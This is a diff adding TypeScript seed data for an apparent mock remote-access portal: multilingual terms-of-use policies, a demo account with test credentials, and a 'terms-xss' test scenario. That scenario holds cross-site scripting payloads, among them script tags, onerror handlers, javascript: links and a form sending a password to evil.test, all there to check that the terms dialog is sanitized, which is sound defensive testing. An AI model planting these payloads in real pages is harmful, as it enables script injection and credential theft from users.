@@ -1,0 +1,132 @@
+import { baseAgo, iso, HOUR, DAY } from './prng';
+import { companyGroupId, newUser } from './seed-people';
+import type { AccessToken, Company, Db, TermsOfUsePolicy, User, UserMembership } from './types';
+
+/**
+ * Terms of use: the sector's policies (version 2 is the latest, accepted by every seeded person), Helix Automation's own
+ * policies (Helix's setting is `company`: its version 2 is the latest, accepted by Helix's people and the admin) and the
+ * terms demo account, a Helix operator who accepted only Helix's version 1, so the portal forces the new terms on them.
+ */
+export const SECTOR_TERMS_ID = 'tou-sector-2';
+export const HELIX_TERMS_ID = 'tou-helix-2';
+const HELIX = 'c-helix';
+
+/** The one account the terms-of-use dialog is forced on; the other demo accounts have accepted everything. */
+export const termsAccount = {
+  publicId: 'u-terms',
+  email: 'terms@helix.test',
+  password: 'terms-demo-1',
+  name: 'Tessa Terms',
+  companyId: HELIX,
+  token: { publicId: 'demo-terms-token', secretId: 'demo-terms-secret' },
+} as const;
+
+type Bodies = Record<string, string>;
+
+const SECTOR_V1: Bodies = {
+  en: '<h2>Terms of use</h2><p>Version 1 of the Industrial Automation remote access terms.</p>',
+  de: '<h2>Nutzungsbedingungen</h2><p>Version 1 der Fernzugriffsbedingungen von Industrial Automation.</p>',
+};
+const SECTOR_V2: Bodies = {
+  en: '<h2>Terms of use</h2><p>These terms govern remote access to industrial devices through this portal.</p>'
+    + '<ul><li>Connect only to devices you are allowed to service.</li><li>Keep your credentials to yourself.</li></ul>'
+    + '<p>Read the <a href="https://example.test/terms" target="_blank">full terms</a>.</p>',
+  de: '<h2>Nutzungsbedingungen</h2><p>Diese Bedingungen regeln den Fernzugriff auf Industriegeräte über dieses Portal.</p>'
+    + '<ul><li>Verbinden Sie sich nur mit Geräten, die Sie warten dürfen.</li><li>Geben Sie Ihre Zugangsdaten nicht weiter.</li></ul>'
+    + '<p>Lesen Sie die <a href="https://example.test/terms" target="_blank">vollständigen Bedingungen</a>.</p>',
+};
+const HELIX_V1: Bodies = {
+  en: '<h2>Helix Automation terms of use</h2><p>Version 1: remote service of Helix installations.</p>',
+  de: '<h2>Nutzungsbedingungen der Helix Automation</h2><p>Version 1: Fernwartung von Helix-Anlagen.</p>',
+};
+const HELIX_V2: Bodies = {
+  en: '<h2>Helix Automation terms of use</h2>'
+    + '<p>These terms apply to everyone who services Helix Automation installations remotely.</p>'
+    + '<h3>1. Access</h3><p>Request access for the shortest time that does the job, and disconnect when you are done.</p>'
+    + '<h3>2. Safety</h3><p>Never change a running installation without the operator on site knowing about it.</p>'
+    + '<h3>3. Records</h3><p>Every session is logged. Logs are kept for <strong>one year</strong>.</p>'
+    + '<p>Questions? Write to <a href="mailto:legal@helix.test">legal@helix.test</a> or read the '
+    + '<a href="https://helix.example.test/terms" target="_blank">terms online</a>.</p>',
+  de: '<h2>Nutzungsbedingungen der Helix Automation</h2>'
+    + '<p>Diese Bedingungen gelten für alle, die Anlagen der Helix Automation aus der Ferne warten.</p>'
+    + '<h3>1. Zugriff</h3><p>Beantragen Sie Zugriff für die kürzeste nötige Zeit und trennen Sie die Verbindung danach.</p>'
+    + '<h3>2. Sicherheit</h3><p>Ändern Sie eine laufende Anlage nie ohne Wissen des Bedieners vor Ort.</p>'
+    + '<h3>3. Protokolle</h3><p>Jede Sitzung wird protokolliert. Protokolle werden <strong>ein Jahr</strong> aufbewahrt.</p>',
+};
+const HELIX_DRAFT: Bodies = { en: '<h2>Helix Automation terms of use</h2><p>Draft of version 3.</p>' };
+
+function policy(publicId: string, company: string | null, version: string, publishedOn: string | null, bodies: Bodies, updateSummary: string | null = null): TermsOfUsePolicy {
+  return {
+    publicId, company: company ? { publicId: company } : null, version, publishedOn, type: 'termsofuse',
+    languages: Object.entries(bodies).map(([languageCode, body]) => ({
+      publicId: `${publicId}-${languageCode}`, languageCode, body, policy: { publicId }, updateSummary,
+    })),
+  };
+}
+
+export function seedTermsOfUsePolicies(): TermsOfUsePolicy[] {
+  return [
+    policy('tou-sector-1', null, '1', baseAgo(500), SECTOR_V1),
+    policy(SECTOR_TERMS_ID, null, '2', baseAgo(250), SECTOR_V2, 'Links to the full terms.'),
+    policy('tou-helix-1', HELIX, '1', baseAgo(300), HELIX_V1),
+    policy(HELIX_TERMS_ID, HELIX, '2', baseAgo(10), HELIX_V2, 'Safety and records sections added.'),
+    policy('tou-helix-3', HELIX, '3', null, HELIX_DRAFT),
+  ];
+}
+
+const acceptance = (policyId: string, company: string | null, acceptedOn: string): User['acceptedTermsOfUsePolicies'][number] => ({
+  publicId: `acc-${policyId}-${acceptedOn.slice(0, 10)}`, policy: { publicId: policyId }, company: company ? { publicId: company } : null, acceptedOn,
+});
+
+/** The terms account: a Helix operator who accepted the sector's terms and Helix's version 1 only. */
+export function seedTermsAccount(now: number): { user: User; membership: UserMembership; token: AccessToken } {
+  const user = newUser({
+    publicId: termsAccount.publicId, name: termsAccount.name, emailAddress: termsAccount.email, _password: termsAccount.password,
+    registeredOn: baseAgo(90), lastSeenOn: baseAgo(20),
+    acceptedTermsOfUsePolicies: [acceptance(SECTOR_TERMS_ID, null, baseAgo(60)), acceptance('tou-helix-1', HELIX, baseAgo(60))],
+  });
+  const membership: UserMembership = {
+    publicId: 'm-terms-1', _companyId: HELIX, user: { publicId: user.publicId }, invite: null, group: { publicId: companyGroupId(HELIX) },
+    role: { publicId: 'r-helix-4' }, expiresOn: null,
+  };
+  const token: AccessToken = {
+    ...termsAccount.token, created: { on: iso(now - HOUR), ip: '192.0.2.1', userAgent: null }, expiresOn: iso(now + 365 * DAY), _userId: user.publicId,
+  };
+  return { user, membership, token };
+}
+
+/** Helix decides its own terms; everybody with a Helix membership but the terms account accepted the latest ones. */
+export function applyCompanyTerms(companies: Company[], users: User[], memberships: UserMembership[]): void {
+  const helix = companies.find((c) => c.publicId === HELIX);
+  if (helix) {
+    helix.customTermsOfUse = 'company';
+    helix.latestTermsOfUse = { publicId: HELIX_TERMS_ID };
+  }
+  const helixPeople = new Set(memberships.filter((m) => m._companyId === HELIX && m.user).map((m) => m.user?.publicId));
+  for (const user of users) {
+    if (helixPeople.has(user.publicId) && user.publicId !== termsAccount.publicId) {
+      user.acceptedTermsOfUsePolicies.push(acceptance(HELIX_TERMS_ID, HELIX, baseAgo(9)));
+    }
+  }
+}
+
+/**
+ * Scenario `terms-xss`: Helix's latest terms carry hostile markup in every language, and the terms account has never
+ * accepted Helix terms (so the dialog opens at once). Each payload would set `window.__termsXss` or open an alert if it ran.
+ */
+export const TERMS_XSS_BODY = '<h2>Terms with hostile markup</h2><p>Only this text and the links may show.</p>'
+  + '<img src=x onerror="window.__termsXss=1;alert(1)">'
+  + '<script>window.__termsXss=2;alert(2)</script>'
+  + '<a href="javascript:window.__termsXss=3;alert(3)">A javascript link</a> '
+  + '<a href="https://example.test/terms" target="_blank">A new-tab link</a>'
+  + '<iframe src="javascript:alert(4)"></iframe>'
+  + '<form action="https://evil.test"><input name="password"><button>Send</button></form>'
+  + '<style>body { display: none }</style>'
+  + '<p onmouseover="window.__termsXss=5">Point here</p>';
+
+export function termsXssScenario(db: Db): void {
+  const latest = db.termsOfUsePolicies.find((p) => p.publicId === HELIX_TERMS_ID);
+  latest?.languages.forEach((language) => (language.body = TERMS_XSS_BODY));
+  const user = db.users.find((u) => u.publicId === termsAccount.publicId);
+  if (user) user.acceptedTermsOfUsePolicies = user.acceptedTermsOfUsePolicies.filter((a) => a.company === null);
+}
